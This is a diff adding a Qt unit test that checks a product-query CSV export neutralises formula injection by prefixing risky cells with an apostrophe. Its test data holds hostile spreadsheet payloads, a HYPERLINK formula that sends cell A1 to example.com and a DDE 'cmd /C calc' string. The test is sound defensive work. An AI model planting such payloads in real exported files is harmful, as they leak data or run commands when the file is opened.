@@ -167,6 +167,7 @@ private slots:
     void wholeResultNotOnlyTheRowsOnScreen();
     void stoppedExportLeavesNoFile();
     void unwritableFileSaysWhy();
+    void formulaTextMadeInert();
 
 private:
     QueryScreen *productQuery();
@@ -368,6 +369,40 @@ void TestCsvExport::unwritableFileSaysWhy()
                                          .arg(QDir::toNativeSeparators(path))),
              qPrintable(error.text()));
     QVERIFY(!QFileInfo::exists(path));
+}
+
+// A spreadsheet runs a cell that begins like a formula when the file is opened: such text
+// goes out behind an apostrophe, numbers (negative ones too) as they are.
+void TestCsvExport::formulaTextMadeInert()
+{
+    const QStringList names = {
+        QStringLiteral("=HYPERLINK(\"http://example.com/?\"&A1,\"點我\")"),
+        QStringLiteral("@SUM(1+1)*cmd|' /C calc'!A0"), QStringLiteral("+886-2-2700-1234"),
+        QStringLiteral("-10% 特價"), QStringLiteral("\t=1+1"), QStringLiteral("\r=1+1"),
+        QStringLiteral("磁磚 =1+1")};
+    for (int i = 0; i < names.size(); ++i)
+        m_db->exec(QStringLiteral("INSERT INTO Product VALUES (?, ?, '地磚', '片', '@米白', ?, "
+                                  "0, 1200, NULL, 0, '2024-01-21', NULL)"),
+                   {QStringLiteral("PR%1").arg(i + 1, 6, 10, QLatin1Char('0')), names[i],
+                    -5 + i});
+    QueryScreen *screen = productQuery();
+    search(screen, QString());
+    const QString path = m_home.filePath(QStringLiteral("formulas.csv"));
+    ModalAnswer done(QMessageBox::Ok);
+    runGuarded([&] { screen->exportTo(path); });
+    QCOMPARE(done.seen(), 1);
+
+    const std::optional<Records> records = readCsv(readFile(path));
+    QVERIFY(records);
+    Records expected = productsFromDatabase();
+    for (int i = 0; i < names.size(); ++i) {
+        QStringList &row = expected[i];
+        if (i + 1 < names.size())
+            row[1] = QLatin1Char('\'') + row[1];
+        row[4] = QStringLiteral("'@米白");
+        QCOMPARE(row[5], QString::number(-5 + i)); // a number, not text: as it is
+    }
+    QCOMPARE(records->mid(1), expected);
 }
 
 QTEST_MAIN(TestCsvExport)
